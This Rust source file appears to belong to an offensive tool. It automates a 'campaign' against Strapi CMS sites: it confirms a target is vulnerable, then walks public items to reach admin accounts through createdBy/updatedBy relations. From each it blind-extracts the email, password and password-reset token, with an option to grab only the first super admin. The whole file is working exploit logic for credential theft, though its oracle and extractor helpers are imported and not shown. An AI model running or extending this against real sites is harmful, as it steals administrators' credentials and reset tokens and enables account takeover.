//! Strapi account dump.
//!
//! Pipeline flow:
//! Vulnerability check → item ids → for each item and user relation:
//! skip already dumped accounts → blind extraction of every field.

use super::BlindExtractor;
use crate::attacks::{StrapiTarget, dump_fields};
use crate::models::{Alphabet, Result, RunStats};
use serde::{Deserialize, Serialize};
use std::sync::Arc;
use std::time::Instant;
use tracing::{debug, info, warn};

/// Fields dumped for one admin account.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq, Eq)]
pub struct StrapiAccount {
    /// Item the account was reached through
    pub item_id: String,
    /// Relation (createdBy/updatedBy) pointing to the account
    pub user_field: String,
    pub email: String,
    pub password: String,
    pub reset_password_token: String,
}

impl StrapiAccount {
    /// Store the outcome of one field dump.
    ///
    /// A failed field is logged and left empty.
    fn store(&mut self, field: &str, dumped: Result<RunStats>) {
        let value = match dumped {
            Ok(stats) => stats.value,
            Err(e) => {
                warn!(item = %self.item_id, user_field = %self.user_field, field = field, error = %e, "Failed to dump field, leaving it empty");
                return;
            }
        };
        match field {
            "email" => self.email = value,
            "password" => self.password = value,
            _ => self.reset_password_token = value,
        }
    }
}

/// Result of a campaign.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct CampaignReport {
    pub accounts: Vec<StrapiAccount>,
    pub items_scanned: usize,
    pub requests_sent: usize,
    pub runtime_secs: f64,
}

pub struct StrapiCampaign {
    target: StrapiTarget,
    threads: usize,
}

impl StrapiCampaign {
    pub fn new(target: StrapiTarget, threads: usize) -> Self {
        Self { target, threads }
    }

    /// Dump every reachable admin account (or only the first super admin).
    pub async fn run(&self) -> Result<CampaignReport> {
        let start = Instant::now();
        self.target.check_vulnerable().await?;

        let ids = self.target.item_ids().await?;
        info!(items = ids.len(), "Collected public items");

        let mut report = CampaignReport::default();
        let mut seen_emails: Vec<String> = Vec::new();

        'items: for id in &ids {
            report.items_scanned += 1;
            for user_field in self.target.filters().user_fields() {
                if self.target.dump_first_admin()
                    && !self.target.made_by_super_admin(id, user_field).await?
                {
                    continue;
                }
                if self.target.already_dumped(id, user_field, &seen_emails).await? {
                    debug!(item = %id, user_field = user_field, "Account already dumped, skipping");
                    continue;
                }

                let account = self.dump_account(id, user_field).await?;
                if !account.email.is_empty() {
                    seen_emails.push(account.email.clone());
                }
                report.accounts.push(account);

                if self.target.dump_first_admin() {
                    break 'items;
                }
            }
        }

        report.requests_sent = self.target.requests_sent() as usize;
        report.runtime_secs = start.elapsed().as_secs_f64();
        info!(accounts = report.accounts.len(), "Strapi dump complete");
        Ok(report)
    }

    async fn dump_account(&self, id: &str, user_field: &str) -> Result<StrapiAccount> {
        let mut account = StrapiAccount {
            item_id: id.to_string(),
            user_field: user_field.to_string(),
            ..Default::default()
        };

        for field in dump_fields() {
            info!(item = %id, user_field = user_field, field = field.name, "Dumping field");
            let oracle = Arc::new(self.target.field_oracle(id, user_field, field.name));
            let alphabet = Alphabet::new(&field.chars)?;
            let dumped = BlindExtractor::new(oracle, alphabet, self.threads).run().await;
            account.store(field.name, dumped);
        }

        Ok(account)
    }
}
